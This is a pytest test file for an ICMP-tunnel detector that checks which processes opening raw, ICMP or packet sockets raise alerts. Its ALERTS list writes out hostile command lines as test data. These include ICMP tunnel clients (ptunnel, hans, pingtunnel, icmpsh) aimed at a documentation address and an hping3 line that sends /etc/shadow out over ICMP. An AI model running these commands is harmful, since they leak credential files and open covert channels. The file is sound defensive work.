# SPDX-License-Identifier: Apache-2.0
"""tunnel.icmp on the sockets real ping tools, network agents and ICMP tunnels open."""

from __future__ import annotations

import errno
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from collector.detect import Finding, Severity, State
from collector.detect.tunnel.icmp import ALLOWED, DUAL_USE, KINDS, TUNNELS, IcmpDetector, Program, program
from collector.enrich.process import Process, ProcessTable
from probes.events import SocketEvent
from tests.factories import common, exec_event, proc_event

H, L = Severity.HIGH, Severity.LOW
ETH_P_ALL, ETH_P_IP = 0x0300, 0x0008  # htons(0x0003), htons(0x0800) as a little-endian caller passes them

# (family, type, protocol) as socket(2) gets them in each tool's source (ping_tools.toml names the files).
ICMP4_RAW = ("ipv4", "raw", 1)
ICMP4_DGRAM = ("ipv4", "dgram", 1)
ICMP6_RAW = ("ipv6", "raw", 58)
ICMP6_DGRAM = ("ipv6", "dgram", 58)
IP_RAW = ("ipv4", "raw", 255)
TCP_RAW = ("ipv4", "raw", 6)
VRRP_RAW = ("ipv4", "raw", 112)
PACKET_ALL = ("packet", "raw", ETH_P_ALL)
PACKET_IP = ("packet", "dgram", ETH_P_IP)


def socket_event(sock: tuple[str, str, int], ret: int = 3, **kw: Any) -> SocketEvent:
    family, type_, protocol = sock
    return SocketEvent(
        **common(**kw), fd=ret if ret >= 0 else -1, family=family, type=type_, protocol=protocol, ret_raw=ret
    )


def run(exe: str | None, args: list[str], sock: tuple[str, str, int], ret: int = 3) -> list[Finding]:
    """The findings for one process (exec'd with ``exe`` and ``args``) making one socket."""
    table = ProcessTable()
    table.apply(exec_event(args, exe=exe, pid=4242))
    comm = (exe or args[0]).rsplit("/", 1)[-1][:15]
    return IcmpDetector().detect(socket_event(sock, ret, comm=comm), State(table))


# (exe, argv, socket): what each benign tool opens, from its source.
BENIGN = [
    ("/usr/bin/ping", ["ping", "-c", "3", "10.0.0.1"], ICMP4_DGRAM),
    ("/usr/bin/ping", ["ping", "-c", "3", "10.0.0.1"], ICMP4_RAW),  # no ping_group_range: CAP_NET_RAW
    ("/usr/bin/ping", ["ping6", "-c", "1", "2001:db8::1"], ICMP6_DGRAM),  # ping6 -> ping: exe is ping
    ("/usr/bin/ping", ["ping", "-4", "-s", "56", "gateway"], ICMP4_RAW),
    ("/bin/busybox", ["ping", "-c", "1", "10.0.0.1"], ICMP4_RAW),  # the applet link
    ("/bin/busybox", ["busybox", "ping", "-c", "1", "10.0.0.1"], ICMP4_RAW),
    ("/usr/bin/fping", ["fping", "-a", "-g", "10.0.0.0/24"], ICMP4_RAW),
    ("/usr/bin/fping", ["/usr/bin/fping", "-6", "2001:db8::1"], ICMP6_RAW),
    ("/usr/bin/mtr-packet", ["mtr-packet"], IP_RAW),
    ("/usr/bin/mtr-packet", ["mtr-packet"], ICMP4_RAW),
    ("/usr/bin/traceroute.db", ["traceroute", "-I", "10.0.0.1"], ICMP4_RAW),  # Debian: alternatives link
    ("/usr/bin/traceroute.db", ["traceroute", "-T", "-p", "443", "example.com"], TCP_RAW),
    ("/usr/bin/clockdiff", ["clockdiff", "10.0.0.1"], ICMP4_RAW),
    ("/usr/bin/oping", ["oping", "10.0.0.1"], ICMP4_RAW),
    ("/usr/lib/nagios/plugins/check_icmp", ["check_icmp", "-H", "10.0.0.1"], ICMP4_RAW),
    ("/bin/blackbox_exporter", ["/bin/blackbox_exporter", "--config.file=/config/blackbox.yml"], ICMP4_DGRAM),
    ("/usr/lib/systemd/systemd-networkd", ["/usr/lib/systemd/systemd-networkd"], ICMP6_RAW),
    ("/usr/lib/systemd/systemd-networkd", ["/usr/lib/systemd/systemd-networkd"], PACKET_IP),
    ("/usr/sbin/NetworkManager", ["/usr/sbin/NetworkManager", "--no-daemon"], ICMP6_RAW),
    ("/usr/sbin/dhclient", ["/sbin/dhclient", "-4", "-v", "-pf", "/run/dhclient.eth0.pid", "eth0"], PACKET_ALL),
    ("/usr/sbin/dhcpcd", ["dhcpcd", "-q", "eth0"], ICMP6_RAW),
    ("/bin/busybox", ["udhcpc", "-i", "eth0", "-f"], PACKET_IP),
    ("/usr/sbin/keepalived", ["/usr/sbin/keepalived", "--dont-fork"], VRRP_RAW),
    (
        "/usr/sbin/bird",
        ["bird", "-R", "-s", "/var/run/calico/bird.ctl", "-c", "/etc/calico/confd/config/bird.cfg"],
        ("ipv4", "raw", 89),
    ),
    ("/usr/bin/tcpdump", ["tcpdump", "-ni", "any", "icmp"], PACKET_ALL),
    ("/usr/sbin/lldpd", ["lldpd", "-d"], PACKET_ALL),
    ("/usr/sbin/ptp4l", ["ptp4l", "-i", "eth0", "-2", "-m"], PACKET_ALL),
    ("/usr/local/bin/runsc", ["runsc-sandbox", "--root=/run/containerd/runsc/k8s.io", "boot"], PACKET_ALL),
    ("/usr/bin/ping (deleted)", ["ping", "10.0.0.1"], ICMP4_DGRAM),  # upgraded while running
]


@pytest.mark.parametrize(("exe", "args", "sock"), BENIGN)
def test_known_tools_raise_nothing_for_their_sockets(exe: str, args: list[str], sock: tuple[str, str, int]) -> None:
    """Ping tools and network agents open the ICMP, raw and packet sockets their sources open, silently."""
    assert run(exe, args, sock) == []


# (exe, argv, socket, severity, listed): ICMP tunnels and others, from each tool's README or source.
ALERTS = [
    (
        "/usr/sbin/ptunnel-ng",
        ["ptunnel-ng", "-p", "203.0.113.5", "-l", "2222", "-r", "127.0.0.1", "-R", "22"],
        ICMP4_RAW,
        H,
        "tunnel",
    ),
    ("/usr/sbin/ptunnel-ng", ["ptunnel-ng", "-u", "-p", "203.0.113.5", "-l", "2222"], ICMP4_DGRAM, H, "tunnel"),
    (
        "/usr/sbin/ptunnel",
        ["ptunnel", "-p", "203.0.113.5", "-lp", "8000", "-da", "10.0.0.2", "-dp", "22"],
        ICMP4_RAW,
        H,
        "tunnel",
    ),
    ("/opt/icmptunnel/icmptunnel", ["./icmptunnel", "-c", "203.0.113.5"], ICMP4_RAW, H, "tunnel"),
    ("/usr/sbin/hans", ["hans", "-c", "203.0.113.5", "-p", "passwd"], ICMP4_RAW, H, "tunnel"),
    (
        "/tmp/pingtunnel_linux_amd64",
        ["./pingtunnel_linux_amd64", "-type", "client", "-l", ":4455", "-s", "203.0.113.5", "-sock5", "1"],
        ICMP4_RAW,
        H,
        "tunnel",
    ),
    (
        "/usr/bin/udp2raw_amd64",
        ["udp2raw_amd64", "-c", "-l", "0.0.0.0:3333", "-r", "203.0.113.5:4096", "--raw-mode", "icmp"],
        IP_RAW,
        L,
        "tunnel",
    ),
    ("/usr/bin/udp2raw_amd64", ["udp2raw_amd64", "-c", "--raw-mode", "icmp"], PACKET_ALL, L, "tunnel"),
    # icmpsh's master is a Python script: the exe is the interpreter.
    ("/usr/bin/python3.11", ["python3", "icmpsh_m.py", "10.0.0.5", "203.0.113.5"], ICMP4_RAW, H, None),
    ("/usr/bin/python3.11", ["python3", "-c", "import socket; socket.socket(2, 3, 1)"], ICMP4_RAW, H, None),
    ("/usr/lib/jvm/java-17/bin/java", ["java", "-jar", "c2-agent.jar"], ICMP6_DGRAM, H, None),
    ("/tmp/.x/agent", ["/tmp/.x/agent"], ICMP4_RAW, H, None),  # an ICMP C2 implant
    (
        "/usr/sbin/hping3",
        ["hping3", "--icmp", "-d", "1024", "--file", "/etc/shadow", "203.0.113.5"],
        ICMP4_RAW,
        H,
        "dual_use",
    ),
    ("/usr/sbin/hping3", ["hping3", "--icmp", "-d", "1024", "203.0.113.5"], IP_RAW, L, "dual_use"),
    ("/usr/bin/nping", ["nping", "--icmp", "--data-string", "secret", "203.0.113.5"], ICMP4_RAW, H, "dual_use"),
    ("/usr/bin/nmap", ["nmap", "-sS", "10.0.0.0/24"], IP_RAW, L, "dual_use"),
    ("/usr/bin/python3.11", ["python3", "exfil.py"], PACKET_ALL, L, None),  # scapy
    # A listed tool opening a kind of socket it is not listed for.
    ("/usr/bin/tcpdump", ["tcpdump", "-i", "eth0"], ICMP4_RAW, H, "allowed"),
    ("/usr/sbin/dhclient", ["dhclient", "eth0"], ICMP4_RAW, H, "allowed"),
    # argv[0] is not trusted when the exe is known: `exec -a ping ./tunnel`.
    ("/tmp/tunnel", ["ping", "-c", "1", "203.0.113.5"], ICMP4_RAW, H, None),
    ("/usr/bin/python3.11", ["ping"], ICMP4_RAW, H, None),
]


@pytest.mark.parametrize(("exe", "args", "sock", "severity", "listed"), ALERTS)
def test_icmp_tunnels_and_unknown_programs_raise(
    exe: str, args: list[str], sock: tuple[str, str, int], severity: Severity, listed: str | None
) -> None:
    """ICMP sockets from anything not listed for them are high; raw IP and packet sockets low."""
    [finding] = run(exe, args, sock)
    assert finding.rule.id == "tunnel.icmp" and finding.level is severity
    ev = finding.evidence
    assert (ev["family"], ev["type"], ev["protocol"]) == sock
    assert ev["exe"] == exe and ev["fd"] == 3 and ev["error"] is None and ev["listed"] == listed
    assert ev["why"] in finding.summary and "pid 4242" in finding.summary


def test_evidence_names_the_tunnel_and_the_socket() -> None:
    """A known ICMP tunnel is named in the alert, with the socket's family, type and protocol decoded."""
    [finding] = run("/usr/sbin/hans", ["hans", "-c", "203.0.113.5", "-p", "pw"], ICMP4_RAW)
    assert finding.evidence["why"] == "hans is a known ICMP tunnel tool (hans: IP over ICMP echo (a tun device))"
    assert finding.evidence["protocol_name"] == "icmp" and finding.evidence["socket"] == "icmp"
    assert finding.summary.startswith("hans (pid 4242) opened an ICMP socket (ipv4, raw, icmp): hans is")
    [packet] = run("/usr/bin/python3.11", ["python3", "x.py"], PACKET_ALL)
    assert packet.evidence["protocol_name"] == "all" and "AF_PACKET" in packet.summary


@pytest.mark.parametrize(("ret", "name"), [(-errno.EPERM, "EPERM"), (-errno.EACCES, "EACCES"), (-4095, "unknown:4095")])
def test_refused_socket_still_raises_as_an_attempt(ret: int, name: str) -> None:
    """socket() refused (no CAP_NET_RAW, gid outside ping_group_range) raises, and the summary says so."""
    [finding] = run("/usr/bin/python3.11", ["python3", "tunnel.py"], ICMP4_DGRAM, ret=ret)
    assert finding.level is H and finding.evidence["fd"] == -1 and finding.evidence["error"] == name
    assert f"tried to open an ICMP socket (ipv4, ping (SOCK_DGRAM), icmp), refused with {name}" in finding.summary


@pytest.mark.parametrize(
    "sock",
    [
        ("unknown:16", "raw", 0),  # AF_NETLINK SOCK_RAW: ip, systemd, every netlink user
        ("unknown:15", "raw", 2),  # PF_KEY (strongSwan, racoon)
        ("unknown:29", "raw", 1),  # AF_CAN CAN_RAW
        ("ipv4", "dgram", 17),  # a UDP socket: not ICMP, not raw
        ("ipv4", "stream", 6),
        ("ipv6", "unknown:10", 58),
    ],
)
def test_non_ip_raw_and_ordinary_sockets_are_ignored(sock: tuple[str, str, int]) -> None:
    """Raw sockets that are not IP or packet, and IP sockets that are neither raw nor ICMP, raise nothing."""
    assert run("/tmp/.x/agent", ["/tmp/.x/agent"], sock) == []


def test_one_alert_per_process_program_kind_and_outcome() -> None:
    """A process opening many ICMP sockets is one alert; a refusal, a success and a new kind are one each."""
    table = ProcessTable()
    table.apply(exec_event(["python3", "t.py"], exe="/usr/bin/python3.11", pid=4242))
    det, state = IcmpDetector(), State(table)
    out = [f for _ in range(5) for f in det.detect(socket_event(ICMP4_RAW, ret=-errno.EPERM), state)]
    out += [f for _ in range(5) for f in det.detect(socket_event(ICMP4_RAW), state)]
    out += det.detect(socket_event(ICMP6_RAW), state) + det.detect(socket_event(ICMP4_RAW, pid=4343), state)
    assert [(f.evidence["socket"], f.evidence["error"], f.event.tgid) for f in out] == [
        ("icmp", "EPERM", 4242),
        ("icmp", None, 4242),
        ("icmpv6", None, 4242),
        ("icmp", None, 4343),
    ]


def test_seen_is_bounded() -> None:
    """The dedupe memory forgets its oldest entries past its bound, so a flood cannot grow it."""
    det, state = IcmpDetector(max_seen=2), State(ProcessTable())
    firsts = [det.detect(socket_event(ICMP4_RAW, pid=p, comm="x"), state) for p in (1, 2, 3)]
    assert all(firsts) and det.detect(socket_event(ICMP4_RAW, pid=1, comm="x"), state)


@pytest.mark.parametrize(
    ("proc", "comm", "expected"),
    [
        (None, "ping", Program("ping", "comm", None)),
        (Process(1, 0, 0, "ping", None, ("/bin/ping", "-c1"), 0), "ping", Program("ping", "argv0", None)),
        (Process(1, 0, 0, "x", None, (), 0), "x", Program("x", "comm", None)),
        (
            Process(1, 0, 0, "busybox", "/bin/busybox", ("busybox",), 0),
            "busybox",
            Program("busybox", "exe", "/bin/busybox"),
        ),
        (
            Process(1, 0, 0, "sh", "/bin/busybox", ("/bin/busybox", "ping"), 0),
            "sh",
            Program("ping", "applet", "/bin/busybox"),
        ),
    ],
)
def test_program_identity(proc: Process | None, comm: str, expected: Program) -> None:
    """The exe decides; busybox by its applet; argv[0] only without an exe; comm only without a process."""
    assert program(proc, comm, frozenset({"busybox"})) == expected


def test_unknown_process_by_comm_cut_at_15() -> None:
    """A process the table never saw is judged by comm, which the kernel cuts at 15 characters."""
    state = State(ProcessTable())
    assert IcmpDetector().detect(socket_event(PACKET_ALL, comm="systemd-network"), state) == []
    assert IcmpDetector().detect(socket_event(ICMP4_RAW, comm="ping"), state) == []
    [f] = IcmpDetector().detect(socket_event(ICMP4_RAW, comm="hans"), state)
    assert f.evidence["identified_by"] == "comm" and f.evidence["exe"] is None


def test_proc_seeded_process_is_judged_by_its_exe() -> None:
    """A process found in /proc at start-up (no exec seen) is judged by the exe /proc gave."""
    table = ProcessTable()
    table.apply(proc_event(4242, 1, ("/usr/sbin/NetworkManager", "--no-daemon"), exe="/usr/sbin/NetworkManager"))
    assert IcmpDetector().detect(socket_event(ICMP6_RAW, comm="NetworkManager"), State(table)) == []


def test_data_file_is_well_formed() -> None:
    """Every allowed entry names socket kinds the rule knows; no name is both allowed and a tunnel or dual-use."""
    assert all(e.sockets and e.sockets <= set(KINDS) for e in ALLOWED)
    allowed = {n for e in ALLOWED for n in e.names.exact}
    flagged = {n for e in TUNNELS + DUAL_USE for n in e.names.exact}
    assert allowed and flagged and not allowed & flagged


@given(
    family=st.sampled_from(["ipv4", "ipv6", "packet", "unknown:16"]),
    type_=st.sampled_from(["raw", "dgram", "stream", "unknown:10"]),
    protocol=st.integers(0, 2**32 - 1),
    ret=st.integers(-4095, 1 << 20),
    exe=st.none() | st.text(max_size=40),
    args=st.lists(st.text(max_size=20), max_size=3),
)
def test_any_socket_event_never_crashes(
    *, family: str, type_: str, protocol: int, ret: int, exe: str | None, args: list[str]
) -> None:
    """Any family, type, protocol, result and process name gives zero or one finding, never an exception."""
    table = ProcessTable()
    table.apply(proc_event(4242, 1, tuple(args), exe=exe))
    found = IcmpDetector().detect(socket_event((family, type_, protocol), ret), State(table))
    assert len(found) <= 1
